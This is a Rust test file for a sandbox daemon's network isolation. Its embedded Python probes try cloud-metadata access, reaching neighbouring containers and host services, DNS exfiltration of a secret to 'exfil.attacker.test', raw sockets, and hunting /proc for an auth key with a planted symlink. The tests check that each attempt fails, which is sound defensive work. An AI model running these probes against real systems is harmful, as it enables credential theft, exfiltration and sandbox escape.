//! Attacks on the network from inside real private weavers: reaching another weaver, the
//! host's other services, loomd's socket or a cloud metadata address; changing the weaver's
//! own network; DNS as an exfiltration channel; raw sockets. Each must fail, for the stated
//! reason (the errno or the message), and each probe proves it ran.
//!
//! Every loomd here has its own bridge and subnet (made by the test, removed by a guard).

use std::io::Read;
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use crate::common::net::{Bridge, FakeDns, FakeTailscale, SshClient, files_containing};
use crate::support::{self, Loomd, field, privileged};

/// Python every probe starts with: `tcp`/`udp` return the errno's name ("OK" on success).
const PY_PRELUDE: &str = r#"
import errno, fcntl, os, shutil, socket, struct, subprocess, sys, time
def addr():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        return socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", b"eth0"))[20:24])
    except OSError as e:
        return "none:" + errno.errorcode.get(e.errno, str(e.errno))
def ename(e):
    if isinstance(e, socket.timeout):
        return "TIMEOUT"
    return errno.errorcode.get(e.errno, str(e.errno))
def tcp(host, port, timeout=3):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    t = time.monotonic()
    try:
        s.connect((host, port))
        s.sendall(b"probe")
        return "OK", (time.monotonic() - t) * 1000
    except OSError as e:
        return ename(e), (time.monotonic() - t) * 1000
def udp(host, port, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(payload, (host, port))
        return "OK"
    except OSError as e:
        return ename(e)
"#;

/// [`crate::common::net::py_probe`] with this file's prelude.
fn py_probe(d: &Loomd, name: &str, flags: &[&str], script: &str) -> String {
    crate::common::net::py_probe(d, name, flags, PY_PRELUDE, script)
}

/// [`crate::common::net::py_exec`] with this file's prelude.
fn py_exec(d: &Loomd, name: &str, script: &str) -> String {
    crate::common::net::py_exec(d, name, PY_PRELUDE, script)
}

/// A TCP listener on `addr`; every connection it accepts is reported on the channel.
fn tcp_listener(addr: Ipv4Addr) -> (u16, mpsc::Receiver<std::net::SocketAddr>) {
    let l = TcpListener::bind((addr, 0)).unwrap();
    let port = l.local_addr().unwrap().port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            if tx.send(s.peer_addr().unwrap()).is_err() {
                return;
            }
        }
    });
    (port, rx)
}

#[test]
fn a_weaver_cannot_reach_another_weaver_even_with_a_rule_naming_it() {
    if !privileged("weaver_to_weaver") {
        return;
    }
    let br = Bridge::new("ea", 211);
    let d = support::loomd(&br.config());
    // B serves on all its addresses.
    let server = r#"
print("ADDR=" + addr(), flush=True)
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("0.0.0.0", 8080)); l.listen(16)
print("LISTENING=1", flush=True)
while True:
    c, peer = l.accept()
    print("ACCEPTED=" + peer[0], flush=True)
    c.sendall(b"b-here\n"); c.close()
"#;
    let code = format!("{PY_PRELUDE}\n{server}");
    let w =
        d.cli_json(&["weaver", "create", "--name", "b", "--network", "private", "--", "/usr/bin/python3", "-c", &code]);
    assert_eq!(w["state"], "running", "{w}");
    let deadline = Instant::now() + Duration::from_secs(20);
    let log = loop {
        let log = d.logs("b");
        if log.contains("LISTENING=1") {
            break log;
        }
        assert!(Instant::now() < deadline, "B never listened:\n{log}");
        std::thread::sleep(Duration::from_millis(100));
    };
    let b: Ipv4Addr = field(&log, "ADDR").parse().unwrap();
    // B does listen: the host, on the bridge itself, reaches it.
    let mut s = TcpStream::connect_timeout(&(b, 8080).into(), Duration::from_secs(3)).expect("the host reaches B");
    let mut reply = String::new();
    s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    s.read_to_string(&mut reply).unwrap();
    assert_eq!(reply, "b-here\n");

    // A, without a rule: refused by the policy at once.
    support::sleeper(&d, "a", &["--network", "private"]);
    let attack =
        format!("st, ms = tcp('{b}', 8080)\nprint(f'TCP={{st}}', flush=True)\nprint(f'MS={{ms:.1f}}', flush=True)");
    let out = py_exec(&d, "a", &attack);
    assert_eq!(field(&out, "TCP"), "EPERM", "{out}");
    // A allows B's address: the policy lets the connect out, the bridge's isolated ports stop it.
    d.cli_json(&["weaver", "egress", "a", "allow", &format!("{b}:8080")]);
    let out = py_exec(&d, "a", &attack);
    let st = field(&out, "TCP");
    assert_ne!(st, "OK", "weaver A reached weaver B:\n{out}");
    assert_ne!(st, "EPERM", "the rule was not in force, so the bridge was not what stopped it:\n{out}");
    assert!(["TIMEOUT", "EHOSTUNREACH", "ECONNREFUSED"].contains(&st.as_str()), "{out}");
    let log = d.logs("b");
    assert!(
        !log.lines().any(|l| l.starts_with("ACCEPTED=") && !l.ends_with(&br.gateway.to_string())),
        "B accepted A:\n{log}"
    );
}

#[test]
fn a_weaver_cannot_reach_the_hosts_other_services_nor_loomds_socket() {
    if !privileged("host_services") {
        return;
    }
    let br = Bridge::new("eb", 212);
    let d = support::loomd(&br.config());
    let gw = br.gateway;
    let (port, accepted) = tcp_listener(gw);
    let (allowed_port, allowed_accepted) = tcp_listener(gw);
    let sock = d.socket.display().to_string();
    let state = d.state_dir().display().to_string();
    let script = format!(
        r#"
st, ms = tcp("{gw}", {allowed_port})
print(f"ALLOWED={{st}}", flush=True)
st, ms = tcp("{gw}", {port})
print(f"HOSTPORT={{st}}", flush=True)
print(f"HOSTPORTMS={{ms:.1f}}", flush=True)
for p in (22, 80, 443, 5432):
    st, ms = tcp("{gw}", p)
    print(f"PORT{{p}}={{st}}", flush=True)
for key, path in (("SOCK", "{sock}"), ("STATE", "{state}"), ("RUNLOOMD", "/run/loomd/loomd.sock")):
    print(f"{{key}}=" + ("present" if os.path.exists(path) else "absent"), flush=True)
u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    u.connect("{sock}")
    print("UNIX=OK", flush=True)
except OSError as e:
    print("UNIX=" + ename(e), flush=True)
"#
    );
    let log = py_probe(&d, "svc", &["--allow", &format!("{gw}:{allowed_port}")], &script);
    assert_eq!(field(&log, "ALLOWED"), "OK", "the control: an allowed host port is reachable:\n{log}");
    allowed_accepted.recv_timeout(Duration::from_secs(5)).expect("the allowed listener saw the weaver");
    assert_eq!(field(&log, "HOSTPORT"), "EPERM", "{log}");
    assert!(field(&log, "HOSTPORTMS").parse::<f64>().unwrap() < 100.0, "{log}");
    assert!(accepted.try_recv().is_err(), "the host's listener accepted the weaver");
    for p in [22, 80, 443, 5432] {
        assert_eq!(field(&log, &format!("PORT{p}")), "EPERM", "the host's port {p}:\n{log}");
    }
    for key in ["SOCK", "STATE", "RUNLOOMD"] {
        assert_eq!(field(&log, key), "absent", "{key}:\n{log}");
    }
    assert_eq!(field(&log, "UNIX"), "ENOENT", "{log}");
}

#[test]
fn metadata_addresses_stay_closed_under_a_catch_all_rule_and_operators_cannot_open_them() {
    if !privileged("metadata") {
        return;
    }
    let br = Bridge::new("ec", 213);
    let d = support::loomd(&br.config());
    let gw = br.gateway;
    let (port, accepted) = tcp_listener(gw);
    let script = format!(
        r#"
st, ms = tcp("{gw}", {port})
print(f"CATCHALL={{st}}", flush=True)
for host, port in (("169.254.169.254", 80), ("169.254.170.2", 80), ("169.254.0.1", 53)):
    st, ms = tcp(host, port)
    print(f"TCP:{{host}}={{st}}", flush=True)
    print(f"UDP:{{host}}=" + udp(host, port, b"x"), flush=True)
s6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s6.settimeout(2)
try:
    s6.connect(("fd00:ec2::254", 80)); print("TCP6=OK", flush=True)
except OSError as e:
    print("TCP6=" + ename(e), flush=True)
"#
    );
    // Root (an admin) may allow everything; metadata addresses are still not in "everything".
    let log = py_probe(&d, "meta", &["--allow", "0.0.0.0/0", "--allow", "::/0"], &script);
    assert_eq!(field(&log, "CATCHALL"), "OK", "the control: 0.0.0.0/0 is in force:\n{log}");
    accepted.recv_timeout(Duration::from_secs(5)).expect("the catch-all reached the host listener");
    for host in ["169.254.169.254", "169.254.170.2", "169.254.0.1"] {
        assert_eq!(field(&log, &format!("TCP:{host}")), "EPERM", "{log}");
        assert_eq!(field(&log, &format!("UDP:{host}")), "EPERM", "{log}");
    }
    // No IPv6 route may also refuse it first; what matters is that it never connects.
    let v6 = field(&log, "TCP6");
    assert!(["EPERM", "ENETUNREACH", "EADDRNOTAVAIL"].contains(&v6.as_str()), "fd00:ec2::254: {log}");
    let id = d.inspect("meta")["id"].as_str().unwrap().to_string();
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let rows = d.cli_json(&["audit", "--weaver", &id, "--kind", "net_deny"]);
        if rows.to_string().contains("169.254.169.254:80") {
            assert!(rows.to_string().contains("metadata"), "the reason is the metadata rule: {rows}");
            break;
        }
        assert!(Instant::now() < deadline, "no net_deny row for the metadata address: {rows}");
        std::thread::sleep(Duration::from_millis(100));
    }

    // An operator who is not admin can name a metadata address neither at create nor live.
    let op = 4721;
    for rule in ["169.254.169.254", "169.254.169.254:80", "169.254.0.0/16"] {
        let out = support::as_operator(
            &d,
            op,
            &["weaver", "create", "--name", "op-meta", "--network", "private", "--allow", rule, "--", "sleep", "60"],
        );
        assert!(!out.status.success(), "an operator allowed {rule}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("forbidden") && err.contains("metadata"), "{rule}: {err}");
    }
    let out = support::as_operator(
        &d,
        op,
        &["weaver", "create", "--name", "op-w", "--network", "private", "--", "sleep", "60"],
    );
    assert!(out.status.success(), "the operator may make a plain private weaver: {out:?}");
    let out = support::as_operator(&d, op, &["weaver", "egress", "op-w", "allow", "169.254.169.254:80"]);
    assert!(!out.status.success(), "an operator allowed a metadata address live");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("forbidden") && err.contains("metadata"), "{err}");
    let rules = d.cli_json(&["weaver", "egress", "op-w", "list"]);
    assert!(!rules["rules"].to_string().contains("169.254"), "{rules}");
}

#[test]
fn a_weaver_cannot_change_its_own_network() {
    if !privileged("own_network") {
        return;
    }
    let br = Bridge::new("ed", 214);
    let d = support::loomd(&br.config());
    let script = r#"
ip = shutil.which("ip") or "/usr/sbin/ip"
def run(key, *args):
    r = subprocess.run([ip, *args], capture_output=True, text=True)
    print(f"{key}={r.returncode} {r.stderr.strip()}", flush=True)
me = addr()
print("ADDR=" + me, flush=True)
run("ADDRADD", "addr", "add", "10.214.0.250/24", "dev", "eth0")
run("ADDRDEL", "addr", "del", me + "/24", "dev", "eth0")
run("LINKDOWN", "link", "set", "eth0", "down")
run("LINKADD", "link", "add", "evil0", "type", "dummy")
run("ROUTEDEL", "route", "del", "default")
run("ROUTEADD", "route", "add", "192.0.2.0/24", "dev", "eth0")
run("NETNS", "netns", "add", "evil")
r = subprocess.run([ip, "-4", "-o", "addr", "show", "eth0"], capture_output=True, text=True)
print("AFTERADDR=" + (r.stdout.split()[3] if r.stdout.split() else "none"), flush=True)
r = subprocess.run([ip, "route", "show", "default"], capture_output=True, text=True)
print("AFTERROUTE=" + r.stdout.strip(), flush=True)
s = socket.socket(); s.settimeout(3)
try:
    s.connect(("127.0.0.1", 4141)); s.sendall(b"GET /v1/status HTTP/1.0\r\n\r\n")
    print("PROXY=" + s.recv(32).decode().split("\r\n")[0], flush=True)
except OSError as e:
    print("PROXY=" + ename(e), flush=True)
"#;
    let log = py_probe(&d, "netme", &[], script);
    let me = field(&log, "ADDR");
    assert!(me.starts_with("10.214.0."), "{log}");
    for key in ["ADDRADD", "ADDRDEL", "LINKDOWN", "LINKADD", "ROUTEDEL", "ROUTEADD"] {
        let v = field(&log, key);
        assert!(!v.starts_with("0 "), "{key} succeeded inside the weaver:\n{log}");
        assert!(v.contains("Operation not permitted"), "{key} failed for another reason:\n{log}");
    }
    assert!(!field(&log, "NETNS").starts_with("0 "), "{log}");
    assert_eq!(field(&log, "AFTERADDR"), format!("{me}/24"), "{log}");
    assert!(field(&log, "AFTERROUTE").starts_with(&format!("default via {}", br.gateway)), "{log}");
    assert!(field(&log, "PROXY").starts_with("HTTP/1."), "the proxy is still reachable:\n{log}");
}

#[test]
fn dns_is_no_exfiltration_channel() {
    if !privileged("dns_exfiltration") {
        return;
    }
    let br = Bridge::new("ee", 215);
    // The upstream listens on the gateway, an address the weaver can route to: only the
    // policy keeps the weaver from talking to it directly.
    let dns = FakeDns::start(br.gateway, Box::new(|_| Some((Ipv4Addr::new(192, 0, 2, 1), 60))));
    let d = support::loomd(&format!("{}dns_upstream = [\"{}\"]\n", br.config(), dns.addr));
    let secret: String =
        (0..3).map(|i| format!("{:016x}{:016x}", rand_u64(i), rand_u64(i + 7))).collect::<Vec<_>>().join(".");
    let exfil = format!("{secret}.exfil.attacker.test");
    let up = dns.addr;
    let script = format!(
        r#"
def query(name, qtype=1):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", qtype, 1)
r = subprocess.run(["getent", "hosts", "{exfil}"], capture_output=True, text=True)
print(f"GETENT={{r.returncode}} {{r.stdout.strip()}}", flush=True)
r = subprocess.run(["getent", "hosts", "ok.allowed.test"], capture_output=True, text=True)
print(f"CONTROL={{r.returncode}} {{' '.join(r.stdout.split()[:1])}}", flush=True)
# Straight to the resolver, TXT and A, over UDP and TCP.
for qtype in (1, 16):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(query("t%d.{exfil}" % qtype, qtype), ("{gw}", 53))
    try:
        reply = s.recv(512)
        print(f"UDP{{qtype}}=rcode{{reply[3] & 15}} answers{{struct.unpack('>H', reply[6:8])[0]}}", flush=True)
    except OSError as e:
        print(f"UDP{{qtype}}=" + ename(e), flush=True)
t = socket.socket(); t.settimeout(3)
try:
    t.connect(("{gw}", 53)); m = query("tcp.{exfil}")
    t.sendall(struct.pack(">H", len(m)) + m); reply = t.recv(512)
    print(f"TCPDNS=rcode{{reply[5] & 15}}", flush=True)
except OSError as e:
    print("TCPDNS=" + ename(e), flush=True)
# Around the resolver: straight to the upstream.
print("DIRECT=" + udp("{up_ip}", {up_port}, query("direct.{exfil}")), flush=True)
"#,
        gw = br.gateway,
        up_ip = up.ip(),
        up_port = up.port()
    );
    let log = py_probe(&d, "exfil", &["--allow", "allowed.test:443"], &script);
    assert_ne!(field(&log, "GETENT").split(' ').next(), Some("0"), "the exfiltration name resolved:\n{log}");
    assert_eq!(field(&log, "CONTROL"), "0 192.0.2.1", "the control: an allowed name resolves through the fake:\n{log}");
    for key in ["UDP1", "UDP16", "TCPDNS"] {
        let v = field(&log, key);
        // REFUSED, NXDOMAIN or NOTIMP (a TXT question): no answer either way.
        assert!(
            ["rcode5", "rcode3", "rcode4"].iter().any(|r| v.starts_with(r)),
            "{key}: the resolver answered:\n{log}"
        );
        assert!(!v.contains("answers") || v.ends_with("answers0"), "{key}:\n{log}");
    }
    assert_eq!(field(&log, "DIRECT"), "EPERM", "the weaver sent to the upstream directly:\n{log}");
    let seen = dns.seen();
    assert!(seen.iter().any(|n| n == "ok.allowed.test"), "the control went upstream: {seen:?}");
    assert!(!seen.iter().any(|n| n.contains("attacker") || n.contains(&secret[..16])), "leaked upstream: {seen:?}");
    assert!(!seen.iter().any(|n| n.starts_with("<unparsed")), "{seen:?}");
}

/// Some bits that differ from run to run (no crate needed): the clock and the pid, mixed.
fn rand_u64(salt: u64) -> u64 {
    let t = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() as u64;
    let mut x = t ^ (std::process::id() as u64).rotate_left(32) ^ salt.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    x ^= x >> 33;
    x = x.wrapping_mul(0xff51_afd7_ed55_8ccd);
    x ^ (x >> 33)
}

#[test]
fn raw_and_packet_sockets_are_refused() {
    if !privileged("raw_sockets") {
        return;
    }
    let br = Bridge::new("ef", 216);
    let d = support::loomd(&br.config());
    let gw = br.gateway;
    let script = format!(
        r#"
def try_sock(key, *args):
    try:
        s = socket.socket(*args)
        print(f"{{key}}=OK", flush=True)
        return s
    except OSError as e:
        print(f"{{key}}=" + ename(e), flush=True)
try_sock("RAWICMP", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
try_sock("RAWTCP", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
try_sock("RAWRAW", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
try_sock("RAW6", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
try_sock("PACKET", socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
try_sock("PACKETDGRAM", socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
# An ICMP "ping" datagram socket, where ping_group_range allows one: its echo must not leave.
p = try_sock("PING", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
if p:
    echo = struct.pack(">BBHHH", 8, 0, 0, 0, 1) + b"exfil"
    for key, host in (("PINGGW", "{gw}"), ("PINGOUT", "192.0.2.9")):
        try:
            p.sendto(echo, (host, 0))
            print(f"{{key}}=OK", flush=True)
        except OSError as e:
            print(f"{{key}}=" + ename(e), flush=True)
"#
    );
    let log = py_probe(&d, "raw", &[], &script);
    for key in ["RAWICMP", "RAWTCP", "RAWRAW", "RAW6", "PACKET", "PACKETDGRAM"] {
        assert_eq!(field(&log, key), "EPERM", "{key}:\n{log}");
    }
    let ping = field(&log, "PING");
    eprintln!("ICMP datagram socket in the weaver: {ping}");
    if ping == "OK" {
        for key in ["PINGGW", "PINGOUT"] {
            assert_ne!(field(&log, key), "OK", "an ICMP echo left the weaver past the policy ({key}):\n{log}");
        }
    } else {
        assert!(["EACCES", "EPERM"].contains(&ping.as_str()), "{log}");
    }
}

/// Through a weaver's own sshd (`--ssh`): the session is as confined as the weaver (its
/// bounding set is the weaver's plus sshd's chroot, seccomp and no-new-privileges on), the
/// operator's agent is not forwarded into it, and a port forward through it leaves from
/// inside the weaver, under the weaver's egress policy.
#[test]
fn an_ssh_session_is_as_confined_as_its_weaver_and_forwards_nothing_out() {
    if !privileged("ssh_session_confined") {
        return;
    }
    let br = Bridge::new("eg", 217);
    let d = support::loomd(&br.config());
    let c = SshClient::new();
    support::sleeper(&d, "sshd", &["--ssh", "--ssh-keys", &c.public_key_file()]);
    let w = d.inspect("sshd");
    let addr = w["address"].as_str().unwrap().to_string();
    c.trust(&addr, w["spec"]["ssh"]["host_key"].as_str().unwrap());
    let out = c.ssh(
        "id",
        &addr,
        &["grep -E '^(CapBnd|CapEff|Seccomp|NoNewPrivs):' /proc/self/status; echo AUTH_SOCK=${SSH_AUTH_SOCK:-none}"],
    );
    assert!(out.status.success(), "{out:?}");
    let status = String::from_utf8_lossy(&out.stdout).into_owned();
    let caps = |k: &str| {
        let v = field(&status.replace(":\t", "="), k);
        u64::from_str_radix(&v, 16).unwrap_or_else(|_| panic!("{k} in {status}"))
    };
    // The weaver's kept set (CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID, SETUID) and
    // SYS_CHROOT: nothing sshd could hand its sessions beyond that.
    assert_eq!(caps("CapBnd"), 0xfb | 1 << 18, "{status}");
    assert_eq!(caps("CapEff") & !(0xfb | 1 << 18), 0, "{status}");
    assert_eq!(field(&status.replace(":\t", "="), "Seccomp"), "2", "seccomp is on in the session: {status}");
    assert_eq!(field(&status.replace(":\t", "="), "NoNewPrivs"), "1", "{status}");
    assert_eq!(field(&status, "AUTH_SOCK"), "none", "no agent reached the session: {status}");

    // `ssh -W` asks the weaver's sshd to connect: to the weaver's own loopback (allowed: the
    // forward works, the banner comes back), then to a host port its policy does not allow.
    let out = c.ssh("id", &addr, &["-W", "127.0.0.1:22"]);
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("SSH-2.0-"), "a forward works in itself: {out:?}");
    let l = TcpListener::bind((br.gateway, 0)).unwrap();
    let port = l.local_addr().unwrap().port();
    l.set_nonblocking(true).unwrap();
    let out = c.ssh("id", &addr, &["-W", &format!("{}:{port}", br.gateway)]);
    assert!(!out.status.success(), "the forward was refused: {out:?}");
    assert!(l.accept().is_err(), "nothing reached the host port through the weaver's sshd");
}

/// A `--tailscale` weaver's own first process hunts for the tailnet auth key: its file, every
/// process's command line and environment, and the rest of the root; then it plants a symlink
/// where loomd writes the key next time, and a join script of its own. None of it gets the key
/// or makes loomd write outside the weaver. (Tailscale's binaries are fakes: see
/// `FakeTailscale`.)
#[test]
fn a_tailscale_weaver_never_sees_its_auth_key_and_cannot_redirect_it() {
    if !privileged("tailscale_key_hunt") {
        return;
    }
    let fake = FakeTailscale::install();
    let br = Bridge::new("eh", 218);
    let d = support::loomd(&(br.config() + &fake.config()));
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("stolen");
    let hunt = format!(
        r#"
import glob, os
hits = []
for p in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/.loom/**", recursive=True) + ["/.loom/env"]:
    if p.startswith(f"/proc/{{os.getpid()}}/"):
        continue  # this script's own command line holds the needle
    try:
        if os.path.isfile(p) and b"test_value" in open(p, "rb").read():
            hits.append(p)
    except OSError:
        pass
print("HITS=" + (",".join(hits) or "none"), flush=True)
print("KEYFILE=" + str(os.path.lexists("/.loom/tailscale/authkey")), flush=True)
os.symlink("{target}", "/.loom/tailscale/authkey")
open("/.loom/tailscale/up.sh", "w").write("echo EVIL-SCRIPT-RAN\n")
print("PLANTED=1", flush=True)
"#,
        target = target.display()
    );
    let code = format!("{PY_PRELUDE}\n{hunt}");
    let create = ["weaver", "create", "--name", "hunter", "--tailscale", "--", "/usr/bin/python3", "-c", &code];
    assert_eq!(d.cli_json(&create)["state"], "running");
    let ended = |v: &serde_json::Value| v["state"] == "exited" || v["state"] == "failed";
    d.wait_for("hunter", "exited", Duration::from_secs(60), ended);
    let log = d.logs("hunter");
    assert_eq!(field(&log, "HITS"), "none", "the key is nowhere the weaver can read: {log}");
    assert_eq!(field(&log, "KEYFILE"), "False", "{log}");
    assert_eq!(field(&log, "PLANTED"), "1", "{log}");
    // The next start writes the key and script afresh, through the weaver's root only.
    let out = d.cli(&["weaver", "start", "hunter"]);
    assert!(out.status.success(), "{out:?}");
    d.wait_for("hunter", "exited", Duration::from_secs(60), ended);
    assert!(!target.exists(), "loomd wrote nothing through the planted symlink");
    assert!(!d.logs("hunter").contains("EVIL-SCRIPT-RAN"), "loomd's join script ran, not the weaver's");
    let root = d.state_dir().join("weavers").join(d.inspect("hunter")["id"].as_str().unwrap()).join("root");
    assert_eq!(files_containing(&root, b"test_value"), Vec::<std::path::PathBuf>::new());
}
